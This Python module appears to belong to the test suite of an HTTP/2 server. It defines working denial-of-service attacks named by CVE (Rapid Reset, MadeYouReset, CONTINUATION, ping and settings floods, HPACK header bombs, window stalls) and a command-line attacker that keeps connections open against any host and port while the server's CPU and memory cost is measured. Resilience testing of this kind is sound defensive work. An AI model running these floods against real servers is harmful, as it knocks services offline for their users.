"""Attacks on an HTTP/2 server, each from a process of its own, and what they cost it.

As a module: measure() runs one beside good clients and returns the figures. As a program it is the attacker: it keeps so many connections at work
until its input ends, opens a new one for each that is closed, and prints what became of them.
"""
import argparse
import errno
import json
import os
import selectors
import socket
import ssl
import subprocess
import sys
import time
from collections import Counter
from pathlib import Path
from typing import Callable, NamedTuple

if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from kit import frames, processes  # noqa: E402
from kit.frames import (CONTINUATION, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PREFACE, block, data, frame, goaway,  # noqa: E402
                        integer, literal, ping, priority, priority_update, rst, settings, window)
from kit.steady import Steady  # noqa: E402

CALM = frames.ENHANCE_YOUR_CALM
TICKS = os.sysconf("SC_CLK_TCK")
READ = 1 << 16


def head(path, method="GET", *more):
    return block([(":method", method), (":scheme", "http"), (":path", path), (":authority", "site.test"), *more])


def request(stream, path="/", flags=END_STREAM | END_HEADERS, method="GET"):
    return frame(HEADERS, flags, stream, head(path, method))


class Attack(NamedTuple):
    what: str        # the class it stands for
    first: bytes     # said once, behind the preface
    more: Callable   # of a number that counts up from 0: what is said next; None: nothing more is said
    reads: bool = True
    every: float = 0.0  # seconds between two of `more`
    told: bool = True   # the server ends it with GOAWAY: ENHANCE_YOUR_CALM or one of `codes`
    codes: tuple = ()


def streams(each, n=100):
    """`each(stream)` for n streams a turn."""
    return lambda turn: b"".join(each(2 * (turn * n + i) + 1) for i in range(n))


def always(text):
    return lambda _turn: text


OPEN = settings() + request(1, "/body", END_HEADERS, "POST")
BOMB = settings() + frame(HEADERS, END_STREAM | END_HEADERS, 1, head("/") + b"\x40\x03x-a" + integer(4000, 7) + b"a" * 4000)
GREEDY = settings((INITIAL_WINDOW_SIZE, (1 << 31) - 1)) + window(0, (1 << 31) - 1 - frames.WINDOW)
BIG = "/static/big.bin"

ATTACKS = {
    "rapid reset": Attack("CVE-2023-44487", settings(), streams(lambda s: request(s) + rst(s))),
    "rapid reset of files": Attack("CVE-2023-44487", settings(), streams(lambda s: request(s, BIG) + rst(s))),
    "made you reset: window of 0": Attack("CVE-2025-8671", settings(), streams(lambda s: request(s, flags=END_HEADERS) + window(s, 0)), codes=(1,)),
    "made you reset: window too large": Attack("CVE-2025-8671", settings(),
                                               streams(lambda s: request(s, flags=END_HEADERS) + window(s, (1 << 31) - 1)), codes=(3,)),
    "made you reset: DATA behind the end": Attack("CVE-2025-8671", settings(), streams(lambda s: request(s) + data(s, b"a")), codes=(5,)),
    "made you reset: bad requests": Attack("CVE-2025-8671", settings(), streams(lambda s: request(s, "no-slash"))),
    "continuation flood": Attack("CVE-2024-27316", settings() + frame(HEADERS, END_STREAM, 1, head("/")),
                                 always(frame(CONTINUATION, 0, 1, literal("x-a", "a" * 16000)))),
    "continuation flood of nothing": Attack("CVE-2024-28182", settings() + frame(HEADERS, END_STREAM, 1, head("/")),
                                            always(frame(CONTINUATION, 0, 1, b"") * 1000)),
    "empty DATA": Attack("CVE-2019-9518", OPEN, always(data(1, b"") * 1000)),
    "DATA of a byte": Attack("CVE-2019-9518", OPEN, always(data(1, b"a") * 1000)),
    "padding alone": Attack("CVE-2019-9518", OPEN, always(frame(frames.DATA, frames.PADDED, 1, b"\xff" + bytes(255)) * 50)),
    "priority flood": Attack("CVE-2019-9513", settings(), always(b"".join(priority(2 * i + 1, 2 * i + 3, 255) for i in range(1000)))),
    "priority update flood": Attack("CVE-2019-9513", OPEN, always(priority_update(1, b"u=1") * 1000)),
    "settings flood": Attack("CVE-2019-9515", settings(), always(settings((INITIAL_WINDOW_SIZE, 1000)) * 1000)),
    "settings flood, unread": Attack("CVE-2019-9515", settings(), always(settings((INITIAL_WINDOW_SIZE, 1000)) * 1000), reads=False, told=False),
    "ping flood": Attack("CVE-2019-9512", settings(), always(ping() * 1000)),
    "ping flood, unread": Attack("CVE-2019-9512", settings(), always(ping() * 1000), reads=False, told=False),
    "window update flood": Attack("WINDOW_UPDATE of 1", settings(), always(window(0, 1) * 1000)),
    "unknown frames": Attack("frames of unknown kind", settings(), always(frame(0xbb, 0, 0, b"") * 1000)),
    "goaway flood": Attack("GOAWAY again and again", settings(), always(goaway(0) * 1000)),
    "header bomb": Attack("CVE-2016-6581", BOMB, lambda turn: frame(HEADERS, END_STREAM | END_HEADERS, 2 * turn + 3, head("/") + b"\xbe" * 16000)),
    "header bombs below the limit": Attack("CVE-2016-6581", BOMB,
                                           streams(lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s + 2, head("/") + b"\xbe" * 62), 50)),
    "large heads of bodies that do not come": Attack("memory of streams", BOMB + b"".join(
        frame(HEADERS, END_HEADERS, 2 * i + 3, head("/body", "POST") + b"\xbe" * 15) for i in range(99)), None, told=False),
    "window stall": Attack("CVE-2019-9517", settings((INITIAL_WINDOW_SIZE, 0)) + b"".join(request(2 * i + 1, BIG) for i in range(100)), None, told=False),
    "window of a byte": Attack("CVE-2019-9511", settings((INITIAL_WINDOW_SIZE, 0)) + b"".join(request(2 * i + 1, BIG) for i in range(100)),
                               lambda _turn: b"".join(window(2 * i + 1, 1) for i in range(100)), every=0.02),
    "answers that are not read": Attack("CVE-2019-9517", GREEDY + b"".join(request(2 * i + 1, BIG) for i in range(100)), None, reads=False, told=False),
    "trickled frames": Attack("slow frames", settings() + request(1)[:-5], always(b""), every=0.2, told=False),
    "idle": Attack("many idle connections", settings(), None, told=False),
    "cancelled slow pages": Attack("CVE-2023-44487, workers held", settings(), streams(lambda s: request(s, "/slow") + rst(s), 20)),
}


# ---- the attacker ----

class _Attacker:
    def __init__(self, address, attack, context):
        self.attack, self.turn, self.due, self.heard, self.codes = attack, 0, 0.0, b"", []
        self.sock = socket.create_connection(address, timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if context:
            self.sock = context.wrap_socket(self.sock, server_hostname="localhost")
        self.sock.setblocking(False)
        self.out = memoryview(PREFACE + attack.first)
        self.sent = 0

    def write(self, now):
        if not self.out and self.attack.more is not None and now >= self.due:
            self.out, self.due = memoryview(self.attack.more(self.turn)), now + self.attack.every
            self.turn += 1
        if self.out:
            n = self.sock.send(self.out[:READ])
            self.sent, self.out = self.sent + n, self.out[n:]

    def read(self):
        """Drops all but the code of GOAWAY. False at the end."""
        piece = self.sock.recv(READ)
        self.heard += piece
        while len(self.heard) >= 9 and len(self.heard) >= 9 + int.from_bytes(self.heard[:3], "big"):
            n = 9 + int.from_bytes(self.heard[:3], "big")
            if self.heard[3] == frames.GOAWAY:
                self.codes.append(int.from_bytes(self.heard[13:17], "big"))
            self.heard = self.heard[n:]
        return bool(piece)

    def step(self, readable, now):
        """False: the server has closed."""
        try:
            if readable and self.attack.reads and not self.read():
                return False
            self.write(now)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError as error:
            if error.errno not in (errno.ECONNRESET, errno.EPIPE, None):
                raise
            self.last_words()
            return False
        return True

    def last_words(self):
        try:
            while self.read():
                pass
        except OSError:
            pass


def _attack(address, attack, n, context):
    counts, goaways, sent, waiting = Counter(), Counter(), 0, selectors.DefaultSelector()
    waiting.register(sys.stdin, selectors.EVENT_READ)

    def start():
        try:
            one = _Attacker(address, attack, context)
            one.step(0, time.monotonic())  # a server in clear text says nothing before the preface
        except OSError:
            counts["refused"] += 1
            return
        counts["opened"] += 1
        waiting.register(one.sock, selectors.EVENT_READ | (selectors.EVENT_WRITE if attack.more and not attack.every else 0), one)

    for _ in range(n):
        start()
    print("begun", flush=True)
    while True:
        ready = {key.fileobj: events for key, events in waiting.select(timeout=0.02)}
        if sys.stdin in ready:
            break
        now = time.monotonic()
        for key in list(waiting.get_map().values()):
            one = key.data
            if one is None or (key.fileobj not in ready and not attack.every):
                continue
            if not one.step(ready.get(key.fileobj, 0) & selectors.EVENT_READ, now):
                waiting.unregister(one.sock)
                one.sock.close()
                if not counts["closed"]:
                    print("closed", flush=True)
                counts["closed"] += 1
                goaways.update(one.codes[-1:])
                sent += one.sent
                start()
    left = [k.data for k in waiting.get_map().values() if k.data]
    print(json.dumps({**counts, "goaways": goaways, "sent": sent + sum(one.sent for one in left)}))


class Attacker:
    """The attack as a process. It comes from another machine, so to speak: it gets what the others leave of this one's processors."""

    def __init__(self, name, address, connections=4, ca=None):
        words = ["nice", "-n", "19", sys.executable, __file__, name, address[0], str(address[1]), "--connections", str(connections)]
        self.process = subprocess.Popen(words + (["--ca", str(ca)] if ca else []), stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)

    def wait(self, word):
        """Until it has begun, or until the first connection was closed on it."""
        line = self.process.stdout.readline()
        assert line.strip() == word, line

    def finish(self):
        """{"opened", "closed", "goaways": {code: times}, "sent": bytes}"""
        out, _ = self.process.communicate(timeout=60)
        return {"opened": 0, "closed": 0, "refused": 0, **json.loads(out.splitlines()[-1])}

    def __enter__(self):
        return self

    def __exit__(self, *_):
        if self.process.poll() is None:
            self.process.kill()
        self.process.wait()
        self.process.stdin.close()
        self.process.stdout.close()


# ---- what it costs ----

def cpu_seconds(pid):
    with open("/proc/%d/stat" % pid, encoding="ascii") as f:
        fields = f.read().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / TICKS


def private_memory(pid):
    """Bytes that it alone has, of all kinds: sizes of files it maps do not count."""
    return processes.memory(pid, "RssAnon")


def measure(name, address, good, edge_pid, seconds=1.5, connections=4, ca=None):
    """Runs it beside good clients (HTTP/1, at the address `good`), at least until it is told off where it must be. Their figures, the attacker's, and {"cpu": share of a processor, "memory": bytes that
    the edge grew by at most}."""
    before, peak = private_memory(edge_pid), 0
    with Steady(good) as load, Attacker(name, address, connections, ca) as attacker:
        attacker.wait("begun")
        begin, cpu = time.monotonic(), cpu_seconds(edge_pid)
        while time.monotonic() < begin + seconds:
            time.sleep(0.05)
            peak = max(peak, private_memory(edge_pid))
        took = time.monotonic() - begin
        if ATTACKS[name].told:
            attacker.wait("closed")
        figures = {"cpu": (cpu_seconds(edge_pid) - cpu) / took, "memory": max(0, peak - before), "seconds": took}
        return {**figures, "attack": attacker.finish(), "good": load.finish()}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--ca", help="attack over TLS, this authority vouches for the server")
    given = parser.parse_args()
    context = ssl.create_default_context(cafile=given.ca) if given.ca else None
    if context:
        context.set_alpn_protocols(["h2"])
    _attack((given.host, given.port), ATTACKS[given.name], given.connections, context)


if __name__ == "__main__":
    main()
